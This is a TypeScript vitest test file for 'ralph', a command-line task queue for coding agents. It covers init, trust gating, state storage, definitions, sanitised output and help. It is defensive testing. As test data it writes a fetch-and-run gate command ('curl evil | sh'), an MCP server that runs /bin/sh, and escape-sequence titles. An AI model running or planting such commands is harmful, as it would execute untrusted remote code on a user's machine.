import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { eastAsianWidth } from 'get-east-asian-width';
import { describe, expect, inject, it } from 'vitest';
import { initialised, run, runRalph, runWithin, testProject } from '../support/ralph.ts';

describe('a first walk', () => {
  it('a newcomer can walk through init, add, list, next, why, status, show and export', async () => {
    const { root, within, json } = testProject();
    writeFileSync(join(root, 'package.json'), '{"name":"webshop","scripts":{"test":"vitest run"}}');
    expect(await json('init')).toMatchObject({
      gates: [{ name: 'test', command: 'npm test' }],
      disciplines: ['backend', 'testing'],
    });
    expect(await json('add', 'Create the schema', '--priority', 'high')).toMatchObject({
      id: 1,
      status: 'pending',
      priority: 'high',
    });
    expect(
      await json(
        'add',
        'Use it',
        '--depends-on',
        '1',
        '--discipline',
        'backend',
        '--description',
        'All of it',
      ),
    ).toMatchObject({ id: 2, depends_on: [1] });
    expect(await json('add', 'Later', '--draft')).toMatchObject({ id: 3, status: 'draft' });
    expect(await json('list', '--status', 'pending')).toMatchObject([
      { id: 1 },
      { id: 2, description: 'All of it' },
    ]);
    expect(await json('next')).toMatchObject({ id: 1 });
    expect(await json('why', '2')).toMatchObject({
      ready: false,
      reasons: [{ kind: 'dependency', task: { id: 1 } }],
    });
    expect(await json('status')).toMatchObject({
      project: 'webshop',
      state: join(root, '.git/ralph'),
      counts: { pending: 2, draft: 1 },
    });
    expect(await json('show', '2')).toMatchObject({
      id: 2,
      comments: [],
      questions: [],
      sessions: [],
      receipt: null,
    });
    expect(await json('approve', '3')).toMatchObject([{ id: 3, status: 'pending' }]);
    expect(await json('skip', '1')).toMatchObject([{ id: 1, status: 'skipped' }]);
    expect(await json('next')).toMatchObject({ id: 2 });
    expect(await json('retry', '1', '--note', 'Mind the index.')).toMatchObject([
      { id: 1, status: 'pending' },
    ]);
    expect((await within('prompt', '1')).stdout).toContain('A person tells you:\n\n> Mind the index.\n');
    expect(await json('edit', '2', '--depends-on', '', '--title', 'Use it well')).toMatchObject({
      depends_on: [],
      title: 'Use it well',
    });
    await json('export', 'out');
    expect(await json('import', 'out')).toMatchObject({ added: 0, updated: 0 });
    expect((await within('list')).stdout).toBe(
      [
        '#  STATUS   PRIORITY  FEATURE  DISCIPLINE  TITLE',
        '1  ● ready  high      -        -           Create the schema',
        '2  ● ready  medium    -        🔧 BE       Use it well',
        '3  ● ready  medium    -        -           Later',
        '',
        '3 tasks: 3 ready',
        '',
      ].join('\n'),
    );
  });
});

describe('init', () => {
  it('ralph init keeps existing files, says so, and changes nothing the second time', async () => {
    const { root, within, json } = testProject();
    mkdirSync(join(root, '.ralph'));
    writeFileSync(join(root, '.ralph/config.yaml'), 'model: opus\n');
    expect(await json('init')).toMatchObject({ kept: ['.ralph/config.yaml'] });
    expect(readFileSync(join(root, '.ralph/config.yaml'), 'utf8')).toBe('model: opus\n');
    expect((await within('init')).stdout).toContain('Ralph is set up here already; nothing was changed.\n');
  });

  it('ralph init trusts what it wrote, but not an existing configuration', async () => {
    const wrote = testProject();
    writeFileSync(join(wrote.root, 'go.mod'), 'module x');
    await wrote.json('init');
    expect((await wrote.within('trust')).stdout).toMatch(/^Trusted already:\n {2}gate build: go build/);
    const found = testProject();
    mkdirSync(join(found.root, '.ralph'));
    writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: curl evil | sh }]');
    await found.json('init');
    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
    const alike = testProject();
    mkdirSync(join(alike.root, '.ralph'));
    writeFileSync(join(alike.root, 'package.json'), '{"scripts":{"test":"x"}}');
    writeFileSync(join(alike.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: npm test }]');
    await alike.json('init');
    expect((await alike.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
    expect(await found.within('trust')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('type: ralph trust --yes'),
    });
    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
    expect((await found.within('trust', '--yes')).stdout).toBe(
      'Trusted 1 command:\n  gate test: curl evil | sh\n',
    );
    expect((await found.within('doctor')).stdout).toMatch(/✓ ok {3}trust/);
    writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: another }]');
    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
  });

  it('ralph trust lists the variables and secrets that a configuration lets through', async () => {
    const found = testProject();
    mkdirSync(join(found.root, '.ralph'));
    writeFileSync(join(found.root, '.ralph/config.yaml'), 'env: [GITHUB_TOKEN]\nsecrets_allowed: ["**"]\n');
    await found.json('init');
    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
    expect((await found.within('trust', '--yes')).stdout).toBe(
      'Trusted 2 commands:\n  agents and gates get the variable GITHUB_TOKEN\n  secrets in ** may be committed\n',
    );
  });
});

describe('a clone that means harm', () => {
  it('ralph init neither trusts what a clone brought nor writes through its links', async () => {
    const { root, home, within } = testProject();
    mkdirSync(join(root, '.ralph/db'), { recursive: true });
    writeFileSync(
      join(root, '.ralph/db/x.yaml'),
      'disciplines: [{ name: evil, mcp_servers: [{ name: s, command: /bin/sh, args: [-c, x] }] }]',
    );
    await within('init', '--yes');
    expect((await within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
    const linked = testProject();
    symlinkSync(home, join(linked.root, '.ralph'));
    expect(await linked.within('init', '--yes')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('is a link that leaves the project'),
    });
    expect(readdirSync(home)).not.toContain('config.yaml');
  });

  it('an error about a hostile clone prints no escape sequences', async () => {
    const { root, within } = await initialised();
    writeFileSync(join(root, '.ralph/tasks.yaml'), 'tasks: [{ title: x, "\\e[31mEVIL": 1 }]');
    const { stderr } = await within('list');
    expect(stderr).toContain('␛[31mEVIL');
    expect(stderr).not.toContain('\x1b');
  });
});

describe('state', () => {
  it('the state lies in the git directory that all work trees share', async () => {
    const { root, home, within, json } = await initialised();
    const git = (...args: string[]) =>
      run('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
        cwd: root,
        env: { HOME: home, PATH: process.env['PATH'] },
      });
    await git('add', '.');
    await git('commit', '-qm', 'x');
    await git('worktree', 'add', '-q', '../second');
    await json('add', 'shared');
    expect(await json('list', '--project', '../second')).toMatchObject([{ title: 'shared' }]);
    // Each work tree's files are read when they change there, not whenever one looks from there.
    writeFileSync(join(root, '../second/.ralph/tasks.yaml'), 'tasks: [{ id: 9, title: from the second }]');
    await json('list', '--project', '../second');
    await json('list');
    expect(await json('list')).toMatchObject([{ title: 'shared' }, { title: 'from the second' }]);
    await git('clean', '-ffdxq');
    expect((await within('list')).stdout).toContain('shared');
  });

  it('the state lies beside the definitions without git, and stays when git comes later', async () => {
    const { root, home, json } = await initialised({ git: false });
    await json('add', 'early');
    expect(existsSync(join(root, '.ralph/state/ralph.db'))).toBe(true);
    await run('git', ['init', '-q'], { cwd: root, env: { HOME: home, PATH: process.env['PATH'] } });
    expect(await json('list')).toMatchObject([{ title: 'early' }]);
    const { stdout } = await run('git', ['status', '--porcelain', '-uall'], {
      cwd: root,
      env: { HOME: home, PATH: process.env['PATH'] },
    });
    expect(stdout).not.toContain('ralph.db');
  });

  it('each of several projects in one repository has its own queue', async () => {
    const { root, json } = await initialised();
    for (const name of ['api', 'web']) {
      mkdirSync(join(root, 'packages', name), { recursive: true });
      await json('init', '--yes', '--project', join('packages', name));
      await json('add', `for ${name}`, '--project', join('packages', name));
    }
    expect(await json('list', '--project', 'packages/api')).toMatchObject([{ id: 1, title: 'for api' }]);
    expect(await json('list')).toEqual([]);
    mkdirSync(join(root, 'packages/api/src'));
    expect(await json('list', '--project', 'packages/api/src')).toMatchObject([{ id: 1, title: 'for api' }]);
  });
});

describe('definitions', () => {
  it('every command reads the definitions first, and a wrong definition changes nothing', async () => {
    const { root, within, json } = await initialised();
    const file = join(root, '.ralph/tasks.yaml');
    const entry = (id: number, key = 'title') => `  - id: ${id}\n    ${key}: Task ${id}\n    priority: low\n`;
    writeFileSync(file, `tasks:\n${entry(1)}`);
    expect(await json('list')).toMatchObject([{ id: 1, title: 'Task 1' }]);
    const entries = Array.from({ length: 50 }, (_, index) =>
      entry(index + 1, index === 39 ? 'titel' : 'title'),
    );
    writeFileSync(file, `tasks:\n${entries.join('')}`);
    const { code, stdout, stderr } = await within('list');
    expect({ code, stdout, stderr }).toEqual({
      code: 1,
      stdout: '',
      stderr: 'ralph: .ralph/tasks.yaml:120:5: unknown key "titel"; did you mean "title"? (and 1 more)\n',
    });
    writeFileSync(file, readFileSync(file, 'utf8').replace('titel', 'title'));
    expect(await json('list')).toHaveLength(50);
  });

  it('definitions of the older layout are read', async () => {
    const { root, json } = await initialised();
    mkdirSync(join(root, '.ralph/db'));
    writeFileSync(join(root, '.ralph/db/tasks.yaml'), 'tasks: [{ id: 4, title: old, status: done }]');
    expect(await json('list')).toMatchObject([{ id: 4, title: 'old', status: 'done' }]);
  });

  it("definitions that an export wrote into .ralph can be imported, and keep the project's own title", async () => {
    const { root, json } = await initialised();
    await json('add', 'x');
    await json('export', '--force');
    expect(await json('import', '.ralph')).toMatchObject({ added: 0, updated: 0 });
    writeFileSync(join(root, 'other.yaml'), 'metadata: { title: Other }');
    await json('import', 'other.yaml');
    expect(await json('status')).toMatchObject({ project: 'project' });
  });

  it('an export right after init works, and keeps the comments of definitions unless --force is given', async () => {
    const { root, within, json } = await initialised();
    const read = (file: string): string => readFileSync(join(root, '.ralph', file), 'utf8');
    const disciplines = read('disciplines.yaml');
    expect(await within('export')).toMatchObject({ code: 0 });
    expect(read('disciplines.yaml').split('\n')[0]).toBe(disciplines.split('\n')[0]);
    const features = '# Ours\nfeatures:\n  - name: zoo # ticket 12\n    description: |\n      # Heading\n';
    writeFileSync(join(root, '.ralph/features.yaml'), features);
    await json('add', 'x', '--feature', 'zoo');
    expect(await within('export')).toMatchObject({ code: 0 });
    expect(read('features.yaml')).toContain('# Ours\nfeatures:\n  - name: zoo # ticket 12\n');
    expect(read('tasks.yaml')).toContain('# Tasks kept in git.');
    expect(read('tasks.yaml')).toMatch(/title: x\n/);
    expect(await json('import', '.ralph')).toMatchObject({ added: 0, updated: 0 });
    expect(await within('export', '--force')).toMatchObject({ code: 0 });
    expect(read('features.yaml')).not.toContain('ticket 12');
  });
});

describe('what a person is told and may say', () => {
  it('ralph status says what needs the person and what to type', async () => {
    const { within } = await initialised();
    await within('add', 'later', '--draft');
    expect((await within('status')).stdout).toMatch(
      /NEEDS YOU\n {2}~ 1 draft {3}ralph list --status draft, then ralph approve/,
    );
  });

  it('ralph list filters by the status words that it shows, and refuses an unknown feature', async () => {
    const { within, json } = await initialised();
    await json('add', 'first');
    await json('add', 'second', '--depends-on', '1');
    expect(await json('list', '--status', 'ready')).toMatchObject([{ id: 1 }]);
    expect((await within('list', '--status', 'waiting')).stdout).toContain('second');
    expect(await within('list', '--feature', 'auth')).toMatchObject({
      code: 1,
      stderr: 'ralph: There is no feature "auth"; ralph feature list shows all features.\n',
    });
  });

  it('ralph edit clears a feature, a discipline and a description', async () => {
    const { json } = await initialised();
    await json('add', 'x', '--discipline', 'backend', '--description', 'long');
    expect(await json('edit', '1', '--discipline', '', '--description', '')).toMatchObject({
      discipline: null,
      description: null,
    });
  });

  it('the effort of a task can be set, changed, cleared, shown and exported, and a wrong one is refused', async () => {
    const project = await initialised();
    expect(await project.json('add', 'One', '--effort', 'high')).toMatchObject({ effort: 'high' });
    expect((await project.within('show', '1')).stdout).toMatch(/^effort +high$/m);
    expect(await project.within('add', 'Two', '--effort', 'huge')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('low, medium, high, xhigh, max'),
    });
    const [yaml, board] = [join(project.home, 'yaml'), join(project.home, 'board.json')];
    await project.json('export', yaml);
    expect(readFileSync(join(yaml, 'tasks.yaml'), 'utf8')).toContain('effort: high\n');
    await project.json('export', '--as', 'implementation', board);
    expect(await project.json('edit', '1', '--effort', '')).toMatchObject({ effort: null });
    const other = await initialised();
    await other.json('import', board);
    expect(await other.json('list')).toMatchObject([{ title: 'One', effort: 'high' }]);
  });

  it('the agent of a task and of a discipline can be set, cleared, shown with its place, and exported', async () => {
    const project = await initialised();
    const says = async (...args: string[]): Promise<string> => (await project.within(...args)).stdout;
    await project.json('discipline', 'edit', 'backend', '--agent', 'codex', '--yes');
    await project.json('add', 'One', '--discipline', 'backend');
    expect(await says('show', '1')).toMatch(/^agent +codex, as its discipline says$/m);
    expect(await project.json('edit', '1', '--agent', 'claude')).toMatchObject({ agent: 'claude' });
    expect(await says('why', '1')).toContain('gets the agent claude with haiku, as the task says.');
    expect(await project.json('why', '1')).toMatchObject({ next_agent: { agent: 'claude', from: 'task' } });
    const yaml = join(project.home, 'yaml');
    await project.json('export', yaml);
    expect(readFileSync(join(yaml, 'tasks.yaml'), 'utf8')).toContain('agent: claude\n');
    expect(await project.json('edit', '1', '--agent', '')).toMatchObject({ agent: null });
  });

  it('an agent that does not exist is refused with those that there are, in a file by its line, and changes nothing', async () => {
    const project = await initialised();
    const refused = {
      code: 1,
      stderr: expect.stringContaining('There is no agent "codx"; there are claude, codex, '),
    };
    await project.json('add', 'One');
    expect(await project.within('add', 'Two', '--agent', 'codx')).toMatchObject(refused);
    expect(await project.within('edit', '1', '--agent', 'codx')).toMatchObject(refused);
    expect(await project.within('discipline', 'edit', 'backend', '--agent', 'codx', '--yes')).toMatchObject(
      refused,
    );
    const file = join(project.root, '.ralph/tasks.yaml');
    writeFileSync(file, 'tasks:\n  - { id: 2, title: Two, agent: codx }\n');
    expect(await project.within('list')).toMatchObject({
      ...refused,
      stderr: expect.stringContaining('.ralph/tasks.yaml:2: There is no agent "codx"'),
    });
    writeFileSync(file, 'tasks: []\n');
    expect(await project.json('list')).toMatchObject([{ title: 'One', agent: null }]);
  });

  it('a command whose output cannot be written fails', async () => {
    const { root, home, within } = await initialised();
    await within('add', 'x');
    const { code, stderr } = await run(
      'bash',
      ['-c', `"${process.execPath}" "${inject('ralph')}" list > /dev/full`],
      { cwd: root, env: { HOME: home } },
    );
    expect({ code, stderr }).toEqual({ code: 1, stderr: 'ralph: The output cannot be written (ENOSPC).\n' });
  });
});

describe('what somebody wrote stays text', () => {
  it('a hostile title stays text in lists and details', async () => {
    const { within } = await initialised();
    await within('add', 'red \x1b[31m and \u202ereversed', '--description', 'a\rb\x07');
    const listed = await within('list');
    const shown = await within('show', '1');
    for (const { stdout } of [listed, shown]) {
      expect(stdout).toContain('red ␛[31m and <U+202E>reversed');
      expect(stdout).not.toMatch(/[\x1b\x07\r\u202e]/);
    }
  });

  it('a table with any title keeps to the width of the terminal', async () => {
    const { root, home, within } = await initialised();
    await within('add', '日本語のとても長いタイトル'.repeat(10));
    await within('add', 'An English title that goes on and on and on and never comes to an end, it seems');
    const env = { HOME: home, PATH: process.env['PATH'], COLUMNS: '80' };
    const { stdout } = await runRalph(['list'], { cwd: root, env });
    for (const line of stdout.split('\n')) {
      const columns = [...line].reduce(
        (sum, character) => sum + eastAsianWidth(character.codePointAt(0) ?? 0),
        0,
      );
      expect(columns).toBeLessThanOrEqual(80);
    }
    expect(stdout).toContain('…');
  });
});

describe('completion', () => {
  it('ralph completion prints a script for each shell, and suggests commands, task numbers and choices', async () => {
    const { ralph, within, root, home } = await initialised();
    for (const shell of ['bash', 'zsh', 'fish', 'powershell']) {
      expect((await ralph('completion', shell)).stdout).toContain('ralph');
    }
    await within('add', 'Build it');
    expect((await ralph('complete', '--', 'sh')).stdout).toContain('show');
    expect((await ralph('complete', '--', 'show', '')).stdout).toContain('1\tBuild it');
    expect((await ralph('complete', '--', 'list', '--status', '')).stdout).toContain('asking');
    const elsewhere = { cwd: home, env: { HOME: home } };
    for (const leading of [['--project', root, '--json'], [`--project=${root}`]]) {
      const { stdout } = await runWithin(['complete', '--', ...leading, 'show', ''], elsewhere);
      expect(stdout).toContain('1\tBuild it');
    }
  });
});

it('every command has help with an example, --json and --project', async () => {
  const { within } = testProject();
  const names =
    'init add edit list show next status why graph log report approve retry skip answer import export trust completion doctor'.split(
      ' ',
    );
  const overview = await within('--help');
  for (const name of names) {
    expect(overview.stdout).toMatch(new RegExp(`^ {2}${name} `, 'm'));
    const { code, stdout } = await within(name, '--help');
    expect(code).toBe(0);
    expect(stdout).toMatch(/--json[\s\S]*Examples:\n {2}.*ralph/);
    expect(stdout).toContain('--project <dir>');
  }
});
